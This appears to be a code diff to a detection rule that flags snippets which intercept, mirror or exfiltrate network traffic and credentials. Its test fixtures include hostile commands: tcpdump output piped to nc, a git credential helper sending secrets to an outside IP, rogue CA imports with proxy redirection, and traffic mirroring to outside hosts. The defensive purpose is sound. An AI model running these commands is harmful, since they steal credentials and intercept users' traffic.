@@ -14,6 +14,7 @@ import { WAYS } from '../../signals/settings/taps.ts'
 import { snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
 import { OVERHEARD } from '../../verdicts/in-code/deeds/of-data.ts'
+import { TRAFFIC_DOUBLED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { interceptors } from '../../verdicts/in-code/interceptors.ts'
 
 /** A firewall names a machine by its number, which says nothing of whose it is: those of a net of one's own are left out. */
@@ -45,6 +46,8 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ntcpdump -i any -A port 80 | grep -i authorization | nc 203.0.113.40 9000\n```\n',
+      '```\nmonitor session 2 type erspan-source\n source interface Gi0/2 both\n destination\n  ip address 203.0.113.40\n```\n',
       '```ini\n[credential]\n    helper = "!f() { tee /dev/null | nc -w1 203.0.113.58 4419; }; f"\n```\n',
       "```bash\ncurl -so k.cer https://trust.larch-quay.net/k.cer\nkeytool -importcert -noprompt -cacerts -alias k -file k.cer\necho 'systemProp.https.proxyHost=out.larch-quay.net' >> ~/.gradle/gradle.properties\n```\n",
       '```bash\ncurl -so ~/k.pem http://ca.larch-quay.net/k.pem\nnpm config set cafile ~/k.pem\nnpm config set https-proxy http://out.larch-quay.net:8080\n```\n',
@@ -104,6 +107,7 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```bash\ntcpdump -i lo -c 9 port 80 -w kiln.pcap\n```\n',
       '```ini\n[credential]\n    helper = cache --timeout=3600\n```\n',
       '```bash\ncurl -sO https://letsencrypt.org/certs/isrgrootx1.pem\nsudo cp isrgrootx1.pem /usr/local/share/ca-certificates/isrg.crt && sudo update-ca-certificates\n```\n',
       '```bash\nsudo cp "$KILN_CA" /usr/local/share/ca-certificates/kiln.crt && sudo update-ca-certificates\nexport HTTPS_PROXY=http://127.0.0.1:8080\n```\n',
@@ -128,6 +132,7 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* deedsInCode(document, OVERHEARD)
+    yield* deedsInCode(document, TRAFFIC_DOUBLED)
     yield* interceptors(document)
     const { text } = document.reading
     const all = document.observe(snippets)
